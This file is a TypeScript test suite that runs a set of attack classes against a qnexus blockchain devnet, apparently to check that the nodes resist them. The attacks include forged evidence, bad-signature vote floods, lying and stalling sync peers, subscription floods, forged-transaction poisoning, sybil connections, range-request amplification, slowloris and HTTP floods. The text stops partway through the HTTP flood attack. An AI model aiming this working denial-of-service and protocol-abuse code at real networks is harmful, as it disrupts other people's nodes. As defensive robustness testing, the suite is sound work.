import { sendMsg } from '@qnexus/state';
// TEST-ONLY: the attack classes of issue 12, each a bounded function run against a live devnet.
// Every attack uses only what an outsider has: the nodes' public APIs and p2p ports, public
// packages to encode messages, and data anyone can see on the chain (certificates carry real
// signatures, final transactions their raw bytes). Each returns what it observed; the runner
// (run.ts) measures the nodes around it.
import { randomBytes } from 'node:crypto';
import { addressFromPublicKey, formatAddress, fromHex, generateKeyPair, getBackend, parseAddress, toHex } from '@qnexus/crypto';
import { QnexusClient, buildTransfer, type BlockInfo, type SigningKey } from '@qnexus/sdk';
import {
  Writer,
  blockHash,
  encodeBlock,
  encodeCertificate,
  encodeEvidence,
  encodeTx,
  encodeTxBatch,
  encodeVoteGossip,
  openTx,
  voteSigningBytes,
  type BlockHeader,
  type Certificate,
  type SignedVote,
  type TxBody,
  type VoteBody,
} from '@qnexus/types';
import { keepAliveFlood, oversizeBodies, send, slowloris, type StatusCounts } from './http.js';
import { metricValue, penalties, penaltyCutOff, status, StatusPoller } from './measure.js';
import { AttackerPeer, createPeers, earliestCutOff, peersCutOff, stopPeers, type CutOff, type RpcWriter } from './peer.js';
import { fullNode, shardNodes, shardProtocols, validators, type NodeTarget, type Target } from './target.js';

export interface Check {
  name: string;
  ok: boolean;
  detail: string;
}

export interface AttackEnv {
  target: Target;
  victim: NodeTarget;
  /** The attack window: an attack ends what it does by `startedAt + durationMs`. */
  durationMs: number;
  startedAt: number;
  /** Aborted when the runner gives up waiting for the attack (a safety net; attacks end on their own). */
  signal: AbortSignal;
  /** Call once the attack is in full swing (e.g. every sybil connected): the runner's honest probes wait for it. */
  ready(): void;
  log(msg: string): void;
}

export interface AttackOutcome {
  /** libp2p identities the attack used (their penalties in the nodes' logs count as a cut-off). */
  attackerIds: string[];
  /** What the attacker itself saw of being cut off (connection closed, dial or request refused). */
  cutOff: CutOff | null;
  /** What was sent and what came back, for the report. */
  counts: Record<string, number | string>;
  /** Class-specific properties that must hold (asserted by the e2e test). */
  checks: Check[];
  /** Whatever `after` needs from the run (e.g. the ids of the genuine transactions it submitted). */
  data?: Record<string, unknown>;
}

export interface AttackClass<S = unknown> {
  name: string;
  /** One line: what the attacker does. */
  summary: string;
  /** The node whose RSS and CPU are measured (the one attacked, or the first of several). */
  victim(t: Target): NodeTarget;
  /** Setup before the baseline window (not timed). */
  prepare?(t: Target, victim: NodeTarget): Promise<S>;
  run(env: AttackEnv, state: S): Promise<AttackOutcome>;
  /** Checks that read the nodes after the window (logs, counters). */
  after?(env: AttackEnv, outcome: AttackOutcome, state: S): Promise<Check[]>;
}

// ---------------------------------------------------------------- small helpers

const sleep = (ms: number) => new Promise<void>((r) => setTimeout(r, Math.max(0, ms)));
const until = (env: AttackEnv) => env.startedAt + env.durationMs;
const timeLeft = (env: AttackEnv) => until(env) - Date.now();
const over = (env: AttackEnv) => Date.now() >= until(env) || env.signal.aborted;

async function getJson<T>(n: NodeTarget, path: string): Promise<T> {
  const r = await fetch(`${n.apiUrl}${path}`, { signal: AbortSignal.timeout(5000) });
  if (!r.ok) throw new Error(`${n.name} ${path}: HTTP ${r.status}`);
  return (await r.json()) as T;
}

interface Member {
  address: string;
  publicKey: string | null;
}

async function committee(n: NodeTarget): Promise<Member[]> {
  return (await getJson<{ members: Member[] }>(n, '/v1/committee')).members;
}

/** The newest final block with its certificate (asked of any node of the shard that answers). */
async function latestBlock(t: Target): Promise<BlockInfo> {
  let last: unknown;
  for (const n of shardNodes(t)) {
    try {
      const b = await getJson<BlockInfo>(n, '/v1/blocks/latest');
      if (b.certificate) return b;
    } catch (e) {
      last = e;
    }
  }
  throw new Error(`no node served a certified latest block: ${String(last)}`);
}

/**
 * Real precommit signatures by each committee member (from the latest certificate): structurally
 * perfect ML-DSA signatures that pass every cheap check and fail only at the end of a full
 * verification when attached to another message.
 */
async function memberSignatures(t: Target): Promise<Map<string, Uint8Array>> {
  const b = await latestBlock(t);
  return new Map(b.certificate!.votes.map((v) => [v.validator, fromHex(v.signature)]));
}

/** Where the victim stands: the height it decides next and its current round (a slot of a known epoch). */
async function headOf(n: NodeTarget): Promise<{ height: number; round: number } | null> {
  const s = await status(n, 3000);
  return s ? { height: s.finalizedHeight, round: s.round } : null;
}

function bump(c: Record<string, number | string>, k: string, by = 1): void {
  c[k] = Number(c[k] ?? 0) + by;
}

/** Connect a fresh attacker identity to `n` and open its gossip stream (null if refused). */
async function gossipTo(n: NodeTarget, peers: AttackerPeer[], env: AttackEnv): Promise<{ peer: AttackerPeer; w: RpcWriter } | null> {
  const peer = await AttackerPeer.create();
  peers.push(peer);
  if (!(await peer.connect(n.multiaddr, Math.max(500, timeLeft(env))))) return null;
  const w = await peer.gossip(n.peerId, Math.max(500, timeLeft(env)));
  return w ? { peer, w } : null;
}

function attackerCutOff(peers: AttackerPeer[], ...more: (CutOff | null)[]): CutOff | null {
  return earliestCutOff(peersCutOff(peers), ...more);
}

// ---------------------------------------------------------------- evidence relay (issue item 1)

interface EvidenceState {
  bodies: string[];
  forwardedBefore: number;
}

/** Conflicting votes of a key no registry knows, in round 2,000,000,000 (an epoch no node knows). */
function unregisteredEvidence(t: Target, k: number): string {
  const key = generateKeyPair(t.scheme);
  const backend = getBackend(t.scheme);
  const validator = parseAddress(formatAddressOf(key.publicKey));
  const vote = (fill: number): SignedVote => {
    const body: VoteBody = { chainId: t.chainId, shard: t.shard, height: 1 + k, round: 2_000_000_000 + k, step: 'prevote', blockHash: new Uint8Array(32).fill(fill), validator };
    return { body, signature: backend.sign(key.secretKey, voteSigningBytes(body)) };
  };
  return JSON.stringify({ evidence: toHex(encodeEvidence({ first: vote(1), second: vote(2) })) });
}

function formatAddressOf(publicKey: Uint8Array): string {
  return formatAddress(addressFromPublicKey(publicKey));
}

async function forwardedEvidence(t: Target): Promise<number> {
  const vs = await Promise.all(shardNodes(t).map((n) => metricValue(n, 'qnexus_staking_evidence_forwarded_total')));
  return vs.reduce<number>((s, v) => s + (v ?? 0), 0);
}

export const evidenceRelay: AttackClass<EvidenceState> = {
  name: 'evidence-relay',
  summary: 'POST /v1/evidence (two votes of an unregistered key, round 2e9) to every shard node, 10 at once then 1/s each',
  victim: (t) => validators(t)[0]!,
  async prepare(t) {
    return { bodies: [0, 1, 2, 3].map((k) => unregisteredEvidence(t, k)), forwardedBefore: await forwardedEvidence(t) };
  },
  async run(env, st) {
    const nodes = shardNodes(env.target);
    const answers: StatusCounts = {};
    let cutOff: CutOff | null = null;
    let accepted = 0;
    const post = async (n: NodeTarget, i: number) => {
      let code = 0;
      try {
        code = (await send(`${n.apiUrl}/v1/evidence`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: st.bodies[i % st.bodies.length]!, timeoutMs: 10_000 })).status;
      } catch {
        code = 0;
      }
      answers[String(code)] = (answers[String(code)] ?? 0) + 1;
      if (code >= 200 && code < 300) accepted++;
      else cutOff ??= { at: Date.now(), how: 'refused', detail: code === 0 ? 'no answer' : `HTTP ${code}` };
    };
    // The unfixed beacon bans a forwarding node after five offences: ten per node, back to back.
    await Promise.all(nodes.map(async (n) => {
      for (let i = 0; i < 10 && !over(env); i++) await post(n, i);
    }));
    env.ready();
    for (let round = 0; round < 60 && !over(env); round++) {
      await Promise.all(nodes.map((n) => post(n, round)));
      await sleep(Math.min(1000, timeLeft(env)));
    }
    const checks: Check[] = [{ name: 'no forged evidence accepted', ok: accepted === 0, detail: `${accepted} submissions answered 2xx` }];
    return { attackerIds: [], cutOff, counts: { requests: Object.values(answers).reduce((a, b) => a + b, 0), ...prefixed('http', answers) }, checks };
  },
  async after(env, _o, st) {
    const beacon = env.target.nodes.find((n) => n.role === 'beacon');
    const shardIds = new Set(shardNodes(env.target).map((n) => n.peerId));
    const banned = beacon ? penalties([beacon], env.startedAt, shardIds) : [];
    const forwarded = (await forwardedEvidence(env.target)) - st.forwardedBefore;
    return [
      { name: 'the beacon penalised no shard node for relayed evidence', ok: banned.length === 0, detail: banned.length ? `${banned.length} penalties, first: ${banned[0]!.msg} ${banned[0]!.reason}` : 'none' },
      { name: 'unverifiable evidence is not forwarded to the beacon', ok: forwarded === 0, detail: `qnexus_staking_evidence_forwarded_total grew by ${forwarded}` },
    ];
  },
};

function prefixed(p: string, c: StatusCounts): Record<string, number> {
  return Object.fromEntries(Object.entries(c).map(([k, v]) => [`${p}${k}`, v]));
}

// ---------------------------------------------------------------- packed bad-signature votes (item 2)

export const packedVotes: AttackClass = {
  name: 'packed-bad-votes',
  summary: '6 rounds × 2 validators: a fresh peer id sends 1,500 votes (members, head + 1, real signatures of other messages) in one RPC, or in 6 of 250',
  victim: (t) => validators(t)[0]!,
  async run(env) {
    const t = env.target;
    const targets = validators(t).slice(0, 2);
    const topic = shardProtocols(t.chainId, t.shard).vote;
    const members = await committee(env.victim);
    const sigs = await memberSignatures(t);
    const peers: AttackerPeer[] = [];
    /** The identities that sent all 1,500 votes in one RPC. */
    const packed: AttackerPeer[] = [];
    const counts: Record<string, number | string> = {};
    const ROUNDS = 6;
    const PER_RPC = 1500;
    try {
      for (let r = 0; r < ROUNDS && !over(env); r++) {
        const roundEnd = Date.now() + env.durationMs / ROUNDS;
        await Promise.all(targets.map(async (n) => {
          const head = await headOf(n);
          if (!head) return bump(counts, 'victimSilent');
          const messages = [];
          for (let i = 0; i < PER_RPC; i++) {
            const m = members[i % members.length]!;
            const body: VoteBody = { chainId: t.chainId, shard: t.shard, height: head.height + 1, round: head.round, step: i % 2 ? 'precommit' : 'prevote', blockHash: new Uint8Array(randomBytes(32)), validator: parseAddress(m.address) };
            const signature = sigs.get(m.address) ?? new Uint8Array(randomBytes(getBackend(t.scheme).lengths.signature));
            messages.push({ topic, data: encodeVoteGossip({ body, signature }) });
          }
          const g = await gossipTo(n, peers, env);
          if (!g) return bump(counts, 'refused');
          if (r % 2 === 0) packed.push(g.peer);
          // Even rounds pack all 1,500 into one RPC (over any per-RPC cap); odd rounds split them
          // into RPCs of 250, under such a cap, so what is behind it (verification, scoring) is hit too.
          const per = r % 2 === 0 ? PER_RPC : 250;
          for (let i = 0; i < messages.length; i += per) {
            if (!(await g.w.send({ messages: messages.slice(i, i + per) }))) break;
            bump(counts, per === PER_RPC ? 'packedRpcs' : 'splitRpcs');
            bump(counts, 'votes', Math.min(per, messages.length - i));
          }
          bump(counts, 'bytes', g.w.bytesSent);
        }));
        if (r === 0) env.ready();
        await sleep(Math.min(roundEnd, until(env)) - Date.now());
      }
      await sleep(timeLeft(env));
      // Each kind of sender must be caught: one over the per-RPC cap as well as one under it.
      const packedIds = new Set(packed.map((p) => p.id));
      const packedCut = earliestCutOff(peersCutOff(packed), penaltyCutOff(shardNodes(t), env.startedAt, packedIds));
      return {
        attackerIds: peers.map((p) => p.id),
        cutOff: attackerCutOff(peers),
        counts: { ...counts, identities: peers.length },
        checks: [{ name: 'a sender of 1,500 votes in one RPC is penalised or disconnected too', ok: packedCut !== null, detail: packedCut ? packedCut.detail : `none of the ${packed.length} identities that packed 1,500 votes into one RPC was penalised, disconnected or refused` }],
      };
    } finally {
      await stopPeers(peers);
    }
  },
};

// ---------------------------------------------------------------- lying and stalling sync servers (item 3)

interface SyncState {
  /** A real signed transaction (of a throwaway key): blocks made of copies of it decode fine. */
  txRaw: Uint8Array;
}

function statusFrame(height: number): Uint8Array {
  return new Writer(48).u64(height).fixed(new Uint8Array(randomBytes(32)), 32).finish();
}

function parseRangeRequest(req: Uint8Array): { from: number; count: number } | null {
  if (req.length !== 12) return null;
  const v = new DataView(req.buffer, req.byteOffset, req.byteLength);
  return { from: Number(v.getBigUint64(0)), count: v.getUint32(8) };
}

/** A block that decodes (header at `height` linking to `parent`, `txs` copies of one transaction) and its frame with `cert`. */
function fakeFrame(t: Target, height: number, slot: number, parent: Uint8Array, proposer: Uint8Array, txs: Uint8Array[], certFor: (hash: Uint8Array) => Certificate): { frame: Uint8Array; hash: Uint8Array } {
  const header: BlockHeader = {
    chainId: t.chainId, shard: t.shard, height, slot, parentHash: parent,
    stateRoot: new Uint8Array(randomBytes(32)), txRoot: new Uint8Array(randomBytes(32)), proposer, txCount: txs.length,
  };
  const hash = blockHash(header);
  const block = encodeBlock({ header, signature: new Uint8Array(randomBytes(getBackend(t.scheme).lengths.signature)), txs });
  const cert = encodeCertificate(certFor(hash));
  return { frame: new Writer(block.length + cert.length + 16).bytes(block).bytes(cert).finish(), hash };
}

/** Largest sync frame the current code accepts (packages/node/src/sync.ts FRAME_LIMIT). */
const OLD_FRAME_LIMIT = 4 * 1024 * 1024 + 64 * 1024;

export const lyingSync: AttackClass<SyncState> = {
  name: 'lying-sync',
  summary: 'peers of the full node claim head + 100,000 (then, fresh, head + 2) and serve in turn: certificates with 1,024 copies of one signer, endless ~4 MB frames, garbage',
  victim: fullNode,
  async prepare(t) {
    return { txRaw: buildTransfer({ key: throwawayKey(t), chainId: t.chainId, to: formatAddressOf(generateKeyPair(t.scheme).publicKey), amount: 1n, fee: 1n, nonce: 0n }).raw };
  },
  async run(env, st) {
    const t = env.target;
    const p = shardProtocols(t.chainId, t.shard);
    const base = await latestBlock(t);
    const farClaim = base.height + 100_000;
    const members = await committee(env.victim);
    const sigs = await memberSignatures(t);
    const signer = members[0]!.address;
    const signerSig = sigs.get(signer)!;
    const proposer = parseAddress(signer);
    const counts: Record<string, number | string> = { farClaim };
    const peers: AttackerPeer[] = [];
    let mode = 0;
    let head = base.height;
    const poll = setInterval(() => void headOf(env.victim).then((h) => (head = Math.max(head, h?.height ?? 0))), 1000);
    const txsPerHugeBlock = Math.floor((OLD_FRAME_LIMIT - 64 * 1024) / (st.txRaw.length + 4));
    const hugeTxs = Array.from({ length: txsPerHugeBlock }, () => st.txRaw);
    const serveRange = (peer: AttackerPeer) => async function* (req: Uint8Array): AsyncGenerator<Uint8Array> {
      const r = parseRangeRequest(req);
      if (!r) return;
      const m = ['dup-signer', 'huge-endless', 'garbage'][mode++ % 3]!;
      bump(counts, `ranges:${m}`);
      const [now, b] = await Promise.all([headOf(env.victim), latestBlock(t).catch(() => base)]);
      const round = now?.round ?? b.slot + 1;
      // The first frame links to the real head when the range starts right after it.
      let parent = r.from === b.height + 1 ? fromHex(b.hash) : new Uint8Array(randomBytes(32));
      for (let i = 0, h = r.from; !peer.signal.aborted && !over(env); i++, h++) {
        if (m === 'garbage') {
          bump(counts, 'framesSent');
          yield new Uint8Array(randomBytes(1024 * 1024));
          continue;
        }
        if (m === 'dup-signer' && i >= r.count) return;
        const f = m === 'dup-signer'
          ? fakeFrame(t, h, round, parent, proposer, [], (hash) => ({ height: h, round, blockHash: hash, votes: Array.from({ length: 1024 }, () => ({ validator: proposer, signature: signerSig })) }))
          : fakeFrame(t, h, round, parent, proposer, hugeTxs, (hash) => ({ height: h, round, blockHash: hash, votes: [...sigs].map(([a, s]) => ({ validator: parseAddress(a), signature: s })) }));
        parent = f.hash;
        bump(counts, 'framesSent');
        bump(counts, 'bytesSent', f.frame.length);
        yield f.frame;
      }
    };
    try {
      // A persistent liar: the first identity claims a head far ahead; after it is cut off, or a
      // third of the window, a fresh one claims a plausible head (2 past the real one), so a node
      // that sees through the far claim still gets to fetch, and must judge the frames themselves.
      for (let k = 0; !over(env) && k < 6; k++) {
        const peer = await AttackerPeer.create();
        peers.push(peer);
        const far = k === 0;
        await peer.serve(p.status, async function* () {
          bump(counts, far ? 'farClaimsAsked' : 'plausibleClaimsAsked');
          yield statusFrame(far ? farClaim : head + 2);
        });
        await peer.serve(p.blocks, serveRange(peer));
        if (!(await peer.connect(env.victim.multiaddr, Math.max(500, timeLeft(env))))) continue;
        if (k === 0) env.ready();
        const sliceEnd = Date.now() + env.durationMs / 3;
        while (!over(env) && Date.now() < sliceEnd && peer.isConnected(env.victim.peerId)) await sleep(200);
      }
      await sleep(timeLeft(env));
      return { attackerIds: peers.map((x) => x.id), cutOff: attackerCutOff(peers), counts: { ...counts, identities: peers.length }, checks: [await networkHeightCheck(env)] };
    } finally {
      clearInterval(poll);
      await stopPeers(peers);
    }
  },
};

/** The victim's networkHeight must stay near what the shard really finalized (a claimed head is no evidence). */
async function networkHeightCheck(env: AttackEnv): Promise<Check> {
  const all = await Promise.all(shardNodes(env.target).map((n) => status(n)));
  const finalized = Math.max(...all.map((x) => x?.finalizedHeight ?? 0));
  const v = await status(env.victim);
  const ok = v !== null && v.networkHeight <= finalized + 10;
  return { name: "networkHeight does not follow a peer's claimed head", ok, detail: v ? `${env.victim.name}: networkHeight ${v.networkHeight}, shard finalized ${finalized}` : `${env.victim.name} did not answer` };
}

function throwawayKey(t: Target): SigningKey {
  const k = generateKeyPair(t.scheme);
  return { publicKey: k.publicKey, secretKey: k.secretKey, scheme: t.scheme };
}

export const stallingSync: AttackClass = {
  name: 'stalling-sync',
  summary: 'a peer of the full node claims head + 3 and accepts every range request without ever answering (then a fresh one stalls status requests too)',
  victim: fullNode,
  async run(env) {
    const t = env.target;
    const p = shardProtocols(t.chainId, t.shard);
    const counts: Record<string, number | string> = {};
    const peers: AttackerPeer[] = [];
    let head = (await headOf(env.victim))?.height ?? 0;
    const poll = setInterval(() => void headOf(env.victim).then((h) => (head = Math.max(head, h?.height ?? 0))), 1000);
    // A node at the head has nothing to sync: it must not spend the attack "syncing" from a staller.
    const watch = new StatusPoller(env.victim, 500);
    try {
      // The first identity answers status (claiming a head just ahead) and stalls every range; after
      // it is cut off, or half the window, a fresh one stalls the status requests as well.
      const hold = (peer: AttackerPeer) => new Promise<void>((r) => (peer.signal.aborted ? r() : peer.signal.addEventListener('abort', () => r(), { once: true })));
      for (let k = 0; !over(env) && k < 6; k++) {
        const peer = await AttackerPeer.create();
        peers.push(peer);
        const stallStatus = k > 0;
        await peer.serve(p.status, async function* () {
          bump(counts, stallStatus ? 'statusHeld' : 'statusAnswered');
          if (stallStatus) await hold(peer);
          else yield statusFrame(head + 3);
        });
        await peer.serve(p.blocks, async function* () {
          bump(counts, 'rangesHeld');
          // Accept and never answer: hold the stream until the attack ends.
          await hold(peer);
        });
        if (!(await peer.connect(env.victim.multiaddr, Math.max(500, timeLeft(env))))) continue;
        if (k === 0) env.ready();
        const sliceEnd = Date.now() + env.durationMs / 2;
        while (!over(env) && Date.now() < sliceEnd && peer.isConnected(env.victim.peerId)) await sleep(200);
      }
      await sleep(timeLeft(env));
      const w = watch.stop();
      return {
        attackerIds: peers.map((x) => x.id),
        cutOff: attackerCutOff(peers),
        counts: { ...counts, identities: peers.length, syncingFraction: Number(w.syncingFraction.toFixed(2)) },
        checks: [
          { name: 'a stalling peer does not keep the node syncing', ok: w.polls > 0 && w.syncingFraction <= 0.5, detail: `${env.victim.name} reported syncing in ${Math.round(w.syncingFraction * 100)} % of ${w.polls - w.unanswered} answered polls` },
          await networkHeightCheck(env),
        ],
      };
    } finally {
      clearInterval(poll);
      watch.stop();
      await stopPeers(peers);
    }
  },
};

// ---------------------------------------------------------------- subscription flood (item 4)

/** A topic name no node serves, shaped like the real ones (~70 characters). */
function junkTopic(tag: string, i: number): string {
  return `/qnexus/junk-${tag}/shard/${i}/vote`;
}

export const subscriptionFlood: AttackClass = {
  name: 'subscription-flood',
  summary: '1,000,000 SUBSCRIBEs to junk topics in RPCs of 10,000, then 100 RPCs of 100 × 1 KB messages on junk topics',
  victim: (t) => validators(t)[2] ?? validators(t)[0]!,
  async run(env) {
    const counts: Record<string, number | string> = {};
    const peers: AttackerPeer[] = [];
    const TOTAL = 1_000_000;
    const PER_RPC = 10_000;
    const tag = randomBytes(16).toString('hex');
    let sent = 0;
    let msgRpcs = 0;
    try {
      let g = await gossipTo(env.victim, peers, env);
      env.ready();
      while (!over(env) && (sent < TOTAL || msgRpcs < 100) && peers.length <= 8) {
        if (!g || !g.w.open) {
          g = await gossipTo(env.victim, peers, env);
          continue;
        }
        let ok: boolean;
        if (sent < TOTAL) {
          const subscriptions = Array.from({ length: PER_RPC }, (_, i) => ({ subscribe: true, topic: junkTopic(tag, sent + i) }));
          ok = await g.w.send({ subscriptions });
          if (ok) sent += PER_RPC;
        } else {
          const messages = Array.from({ length: 100 }, (_, i) => ({ topic: junkTopic(tag, (msgRpcs * 100 + i) % TOTAL), data: new Uint8Array(randomBytes(1024)) }));
          ok = await g.w.send({ messages });
          if (ok) msgRpcs++;
        }
        if (!ok) g = null;
      }
      await sleep(timeLeft(env));
      return { attackerIds: peers.map((p) => p.id), cutOff: attackerCutOff(peers), counts: { ...counts, subscriptionsSent: sent, junkMessageRpcs: msgRpcs, identities: peers.length }, checks: [] };
    } finally {
      await stopPeers(peers);
    }
  },
};

// ---------------------------------------------------------------- verify-once poisoning (item 5)

interface PoisonAttempt {
  offsetMs: number;
  hash: string;
  api: string;
}

export const verifyOncePoisoning: AttackClass = {
  name: 'verify-once-poisoning',
  summary: 'before each genuine tx reaches a node\'s API, a batch of 63 forged txs + a forged-signature copy of it is gossiped to every shard node',
  victim: (t) => validators(t)[3] ?? validators(t)[0]!,
  async run(env) {
    const t = env.target;
    const topic = shardProtocols(t.chainId, t.shard).tx;
    const [genuineAcct, ...padding] = t.accounts;
    if (!genuineAcct || padding.length === 0) throw new Error('verify-once poisoning needs at least two funded accounts');
    const client = new QnexusClient(env.victim.apiUrl, { timeoutMs: 10_000 });
    const peers: AttackerPeer[] = [];
    const attempts: PoisonAttempt[] = [];
    const counts: Record<string, number | string> = {};
    const sigLen = getBackend(t.scheme).lengths.signature;
    const OFFSETS = [2, 5, 10, 20, 40, 80];
    const padNonces = new Map<string, bigint>();
    for (const a of padding) padNonces.set(a.address, BigInt((await client.account(a.address)).pendingNonce));
    try {
      for (let a = 0; a < OFFSETS.length && timeLeft(env) > 1500; a++) {
        // A fresh identity per attempt, connected to every node of the shard before the genuine tx exists.
        const peer = await AttackerPeer.create();
        peers.push(peer);
        const conns = (
          await Promise.all(shardNodes(t).map(async (n) => ((await peer.connect(n.multiaddr, Math.max(500, timeLeft(env)))) ? peer.gossip(n.peerId, Math.max(500, timeLeft(env))) : null)))
        ).filter((w): w is RpcWriter => w !== null);
        if (a === 0) env.ready();
        const nonce = BigInt((await client.account(genuineAcct.address)).pendingNonce);
        const genuine = buildTransfer({ key: genuineAcct.key, chainId: t.chainId, to: formatAddressOf(generateKeyPair(t.scheme).publicKey), amount: 1n, fee: 1n, nonce });
        const forge = (raw: Uint8Array) => {
          const env0 = openTx(raw);
          return encodeTx({ body: env0.tx.body, signature: new Uint8Array(randomBytes(sigLen)) });
        };
        // Padding the receivers' verify queue: forged txs of funded accounts with nonces in their
        // window (they pass every check before the signature), the copy of the genuine one last.
        const pad: Uint8Array[] = [];
        for (let i = 0; i < 63; i++) {
          const acct = padding[i % padding.length]!;
          const body: TxBody = { chainId: t.chainId, nonce: padNonces.get(acct.address)! + 1n + BigInt(i), fee: 1n, publicKey: acct.key.publicKey, payload: sendMsg('transfer', { to: parseAddress(genuine.from), amount: 1n }) };
          pad.push(encodeTx({ body, signature: new Uint8Array(randomBytes(sigLen)) }));
        }
        const batch = encodeTxBatch([...pad, forge(genuine.raw)]);
        await Promise.all(conns.map((w) => w.send({ messages: [{ topic, data: batch }] })));
        bump(counts, 'forgedBatches', conns.length);
        await sleep(OFFSETS[a]!);
        let api = 'accepted';
        try {
          await client.submitTx(genuine.raw, { busyRetryMs: 3000 });
        } catch (e) {
          api = (e as { code?: string }).code ?? String(e);
        }
        attempts.push({ offsetMs: OFFSETS[a]!, hash: genuine.hash, api });
        bump(counts, api === 'accepted' ? 'genuineAccepted' : `genuine:${api}`);
        await sleep(Math.min(env.durationMs / OFFSETS.length, timeLeft(env) - 1000));
      }
      await sleep(timeLeft(env));
      const refused = attempts.filter((x) => x.api !== 'accepted');
      return {
        attackerIds: peers.map((p) => p.id),
        cutOff: attackerCutOff(peers),
        counts: { ...counts, attempts: attempts.length, identities: peers.length },
        checks: [{ name: 'every genuine tx is admitted at the API despite its forged copy in flight', ok: attempts.length > 0 && refused.length === 0, detail: refused.length ? refused.map((x) => `+${x.offsetMs} ms: ${x.api}`).join(', ') : `${attempts.length} admitted` }],
        // Each admitted genuine tx must also become final: `after` waits for them.
        data: { attempts },
      };
    } finally {
      await stopPeers(peers);
    }
  },
  async after(env, o) {
    const attempts = (o.data?.['attempts'] ?? []) as PoisonAttempt[];
    const client = new QnexusClient(env.victim.apiUrl, { timeoutMs: 10_000 });
    const notFinal: string[] = [];
    await Promise.all(
      attempts
        .filter((x) => x.api === 'accepted')
        .map((a) => client.waitForTx(a.hash, { until: 'final', timeoutMs: 30_000 }).catch((e: unknown) => notFinal.push(`${a.hash.slice(0, 12)}: ${(e as Error).message}`))),
    );
    const honest = new Set(env.target.nodes.map((n) => n.peerId));
    const relayers = penalties(env.target.nodes, env.startedAt, honest);
    return [
      { name: 'every admitted genuine tx becomes final', ok: notFinal.length === 0, detail: notFinal.join('; ') || 'all final' },
      { name: 'no honest relayer penalised', ok: relayers.length === 0, detail: relayers.length ? relayers.slice(0, 3).map((p) => `${p.node} penalised ${p.peerId.slice(-8)}: ${p.reason}`).join('; ') : 'none' },
    ];
  },
};

// ---------------------------------------------------------------- sybil connections (item 6)

export const sybils: AttackClass = {
  name: 'sybil-connections',
  summary: '120 fresh identities connect to one validator and subscribe to the shard topics, holding their connections',
  victim: (t) => validators(t)[3] ?? validators(t)[0]!,
  async run(env) {
    const t = env.target;
    const p = shardProtocols(t.chainId, t.shard);
    const N = 120;
    const peers = await createPeers(N);
    const counts: Record<string, number | string> = {};
    try {
      const results = await Promise.all(peers.map(async (s, i) => {
        await sleep(i * 10);
        if (!(await s.connect(env.victim.multiaddr, 10_000))) return false;
        const w = await s.gossip(env.victim.peerId);
        await w?.send({ subscriptions: [p.tx, p.vote, p.block].map((topic) => ({ subscribe: true, topic })) });
        return true;
      }));
      counts['dialsAccepted'] = results.filter(Boolean).length;
      env.ready();
      let peak = 0;
      while (!over(env)) {
        peak = Math.max(peak, peers.filter((s) => s.isConnected(env.victim.peerId)).length);
        await sleep(Math.min(500, timeLeft(env)));
      }
      counts['peakHeld'] = peak;
      counts['heldAtEnd'] = peers.filter((s) => s.isConnected(env.victim.peerId)).length;
      counts['closedByNode'] = peers.filter((s) => s.remoteCloseAt !== null).length;
      counts['gossipBytesReceived'] = peers.reduce((a, s) => a + s.gossipBytesReceived, 0);
      return { attackerIds: peers.map((s) => s.id), cutOff: attackerCutOff(peers), counts, checks: [] };
    } finally {
      await stopPeers(peers);
    }
  },
};

// ---------------------------------------------------------------- range-request amplification (item 7)

export const rangeAmplification: AttackClass = {
  name: 'range-amplification',
  summary: 'one peer, 16 streams in parallel: blocks requests from height 1 for 256 blocks (1 in 8: tx requests for 10,000 ids), up to 512',
  victim: (t) => validators(t)[1] ?? validators(t)[0]!,
  async run(env) {
    const t = env.target;
    const p = shardProtocols(t.chainId, t.shard);
    const peer = await AttackerPeer.create();
    const counts: Record<string, number | string> = {};
    let refusedAt: number | null = null;
    let issued = 0;
    const MAX_REQUESTS = 512;
    try {
      if (!(await peer.connect(env.victim.multiaddr))) return { attackerIds: [peer.id], cutOff: attackerCutOff([peer]), counts: { dialRefused: 1 }, checks: [] };
      env.ready();
      const blocksReq = new Writer(12).u64(1).u32(256).finish();
      const ids = Array.from({ length: 10_000 }, () => new Uint8Array(randomBytes(32)));
      const txsReq = (() => {
        const w = new Writer(4 + 32 * ids.length).u32(ids.length);
        for (const id of ids) w.fixed(id, 32);
        return w.finish();
      })();
      await Promise.all(Array.from({ length: 16 }, async () => {
        while (!over(env) && issued < MAX_REQUESTS) {
          const tx = issued++ % 8 === 7;
          const r = await peer.request(env.victim.peerId, tx ? p.txs : p.blocks, tx ? txsReq : blocksReq, { timeoutMs: Math.max(1000, timeLeft(env)) });
          bump(counts, tx ? 'txsRequests' : 'blocksRequests');
          bump(counts, 'bytesPulled', r.bytes);
          // Refused, or cut short (a byte budget ends a response early); our own time running out is neither.
          if (r.error !== null && r.error !== 'timeout') {
            bump(counts, tx ? 'txsRefused' : 'blocksRefused');
            // The amplification is the range requests: only limiting those cuts the attacker off.
            if (!tx) refusedAt ??= Date.now();
          }
        }
      }));
      await sleep(timeLeft(env));
      const refused: CutOff | null = refusedAt === null ? null : { at: refusedAt, how: 'refused', detail: 'a range request was refused or cut short' };
      return { attackerIds: [peer.id], cutOff: attackerCutOff([peer], refused), counts, checks: [] };
    } finally {
      await peer.stop();
    }
  },
};

// ---------------------------------------------------------------- HTTP (item 8)

export const httpSlowloris: AttackClass = {
  name: 'http-slowloris',
  summary: '300 sockets to one node\'s API, each sending a header byte per second and never finishing',
  victim: (t) => validators(t)[2] ?? validators(t)[0]!,
  async run(env) {
    const u = new URL(env.victim.apiUrl);
    env.ready();
    const r = await slowloris(u.hostname, Number(u.port), { sockets: 300, durationMs: timeLeft(env), byteIntervalMs: 1000, signal: env.signal });
    return {
      attackerIds: [],
      cutOff: r.cutOff,
      counts: { sockets: r.sockets, connected: r.connected, closedByServer: r.closedByServer, peakOpen: r.peakOpen, firstCloseMs: r.firstCloseMs ?? 'never' },
      checks: [],
    };
  },
};

export const httpFlood: AttackClass = {
  name: 'http-flood',
  summary: "32 MB bodies (3 declared, 3 chunked), then 500 keep-alive clients (status, junk tx POSTs, /metrics) at one node's API",
  victim: (t) => validators(t)[2] ?? validators(t)[0]!,
  async run(env) {
    env.ready();
    const base = env.victim.apiUrl;
    // The oversize bodies first, on their own and for at most a quarter of the window: what is
    // checked is the answer to an oversize body (413, connection closed unread), not how the node
    // sheds a flood; the flood gets the rest of the window.
    const oversizeMs = Math.max(1000, Math.min(3000, timeLeft(env) / 4));
    const [declared, chunked] = await Promise.all([
      oversizeBodies(base, { requests: 3, bodyBytes: 32 * 1024 * 1024, declare: true, timeoutMs: oversizeMs }),
